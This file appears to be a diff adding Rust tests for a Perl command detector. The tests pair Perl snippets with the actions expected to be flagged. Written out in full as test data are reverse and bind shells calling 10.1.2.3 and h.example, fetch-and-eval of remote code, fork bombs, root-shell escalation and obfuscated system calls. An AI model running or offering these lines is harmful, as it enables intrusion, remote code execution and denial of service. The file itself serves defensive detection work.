@@ -1,0 +1,158 @@
+//! Perl.
+
+use super::check;
+use aegish_profiles::Lang::Perl;
+
+#[test]
+fn running_is_seen_through_every_spelling() {
+    check(
+        Perl,
+        &[
+            ("exec \"/bin/sh\";", &["shell /bin/sh"]),
+            ("exec'/bin/sh'", &["shell /bin/sh"]),
+            ("system('ls -l')", &["shell ls -l"]),
+            ("system 'ls', '-l';", &["argv ls|-l"]),
+            ("system(qw(ls -l))", &["argv ls|-l"]),
+            ("exec {'/bin/bash'} 'sh', '-i'", &["argv /bin/bash|-i"]),
+            ("print `id`", &["shell id"]),
+            ("my $x = qx{uname -a}; print $x", &["shell uname -a"]),
+            ("$c = 'i'; $c .= 'd'; system($c);", &["shell id"]),
+            ("$c='id'; system(\"$c -u\")", &["shell id -u"]),
+            ("my @a=('ls','-l'); system(@a)", &["argv ls|-l"]),
+            ("system(pack('H*','756e616d65'))", &["shell uname"]),
+            (
+                "use MIME::Base64; system(decode_base64('dW5hbWU='))",
+                &["shell uname"],
+            ),
+            ("system(join '', map {chr} (105,100))", &["shell id"]),
+            ("system(join('', 'i', 'd'))", &["shell id"]),
+            ("system(reverse('di'))", &["shell id"]),
+            ("eval 'system(\"id\")'", &["eval perl system(\"id\")"]),
+            ("eval { die 'x' }; print 1", &["print 1"]),
+            ("do '/srv/x.pl'", &["script perl /srv/x.pl"]),
+            ("require './x.pl'", &["script perl ./x.pl"]),
+            ("open(F, \"id|\"); print <F>;", &["shell id"]),
+            (
+                "open(F, '| /usr/sbin/sendmail -t')",
+                &["shell /usr/sbin/sendmail -t"],
+            ),
+            ("open(my $p, '-|', 'ls', '-l') or die", &["argv ls|-l"]),
+            (
+                "use POSIX qw(setuid); POSIX::setuid(0); exec \"/bin/sh\"",
+                &["user 0", "shell /bin/sh"],
+            ),
+            (
+                "$< = 0; $> = 0; exec '/bin/sh'",
+                &["user 0", "shell /bin/sh"],
+            ),
+            ("&{\"system\"}('id')", &["shell id"]),
+            ("my $f = 'system'; &$f('id')", &["shell id"]),
+            ("CORE::system('id')", &["shell id"]),
+            ("s/(.*)/`$1`/e; s/x/system('id')/e", &["hidden", "shell id"]),
+            ("system $ENV{TARGET}", &["shell /srv/data.bin"]),
+            ("system($ARGV[0])", &["shell first-arg"]),
+            ("exec shift", &["shell first-arg"]),
+            (
+                "sub r { my $c = shift; system($c) } r('id');",
+                &["shell id"],
+            ),
+            ("system <<'X';\necho hi\nX\n", &["shell echo hi\n"]),
+            ("fork while fork", &["exhaust"]),
+            ("while(1){fork}", &["exhaust"]),
+            ("while (1) { fork(); }", &["exhaust"]),
+            ("system $_ while <>", &["hidden"]),
+            ("for my $c ('id','who') { system $c }", &["shell {id|who}"]),
+        ],
+    );
+}
+
+#[test]
+fn files_and_connections() {
+    check(
+        Perl,
+        &[
+            ("open(F,'<','/etc/hosts'); print <F>", &["read /etc/hosts"]),
+            (
+                "open F, '/etc/hosts'; while(<F>){print}",
+                &["read /etc/hosts"],
+            ),
+            (
+                "open(my $fh, '>', '/tmp/x') or die; print $fh 'DATA'; close $fh",
+                &["write /tmp/x <- DATA"],
+            ),
+            (
+                "open(F,'>>/tmp/x'); print F 'DATA'",
+                &["append /tmp/x <- DATA"],
+            ),
+            (
+                "unlink '/tmp/a', '/tmp/b'",
+                &["delete /tmp/a", "delete /tmp/b"],
+            ),
+            ("use File::Path; rmtree('/srv/x')", &["tree /srv/x"]),
+            ("chmod 04755, '/tmp/x'", &["mode 4755 /tmp/x"]),
+            ("chown 0, 0, '/tmp/x'", &["owner 0:0 /tmp/x"]),
+            (
+                "use File::Copy; copy('/etc/hosts','/tmp/h')",
+                &["copy /etc/hosts -> /tmp/h"],
+            ),
+            ("rename 'a','b'", &["copy a -> b"]),
+            (
+                "use Socket;$i=\"10.1.2.3\";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
+                &["connect 10.1.2.3 9", "attach", "shell /bin/sh -i"],
+            ),
+            (
+                "use Socket;socket(S,2,1,6);bind(S,sockaddr_in(99,INADDR_ANY));listen(S,5);accept(C,S);open STDIN,'<&C';exec '/bin/sh'",
+                &["listen ‹computed› 99", "attach", "shell /bin/sh"],
+            ),
+            (
+                "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"h.example:99\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
+                &["connect h.example 99", "attach", "received"],
+            ),
+            (
+                "use IO::Socket::INET; my $s=IO::Socket::INET->new(PeerAddr=>'h.example',PeerPort=>99); while(<$s>){ print `$_` }",
+                &["connect h.example 99", "received"],
+            ),
+            (
+                "use LWP::Simple; eval get('http://h.example/x')",
+                &["fetch http://h.example/x", "received"],
+            ),
+            (
+                "use LWP::Simple; getstore('http://h.example/x','/tmp/x')",
+                &["fetch http://h.example/x -> /tmp/x"],
+            ),
+            (
+                "use LWP::UserAgent; my $ua=LWP::UserAgent->new; $ua->get('http://h.example/x')",
+                &["fetch http://h.example/x"],
+            ),
+        ],
+    );
+}
+
+#[test]
+fn harmless_look_alikes_give_nothing() {
+    check(
+        Perl,
+        &[
+            ("print 'system(1)'", &["print system(1)"]),
+            ("print if m/regex1/ and m/regex2/i", &[]),
+            ("print \"$1\\n\" if /exec (\\w+)/", &[]),
+            ("s/system/exec/g", &[]),
+            ("tr/a-z/A-Z/", &[]),
+            ("y/a/b/; print", &[]),
+            ("# system('rm')", &[]),
+            ("=pod\nsystem('x')\n=cut\nprint 1", &["print 1"]),
+            ("$sum += $F[0]; END { print $sum }", &[]),
+            ("print join(',', sort keys %h)", &[]),
+            (
+                "my %h = (system => 1, exec => 2); print $h{system}",
+                &["print 1"],
+            ),
+            ("print qq{exec \"x\"}", &["print exec \"x\""]),
+            ("use strict; use warnings; print 'x' x 3", &["print xxx"]),
+            ("@lines = <STDIN>; print reverse @lines", &[]),
+            ("printf(\"%s\\n\", 'hi')", &["print hi\n"]),
+            ("if ($x =~ /^(open|exec)/) { print 1 }", &[]),
+            ("$x{exec}++ for split /,/", &[]),
+        ],
+    );
+}
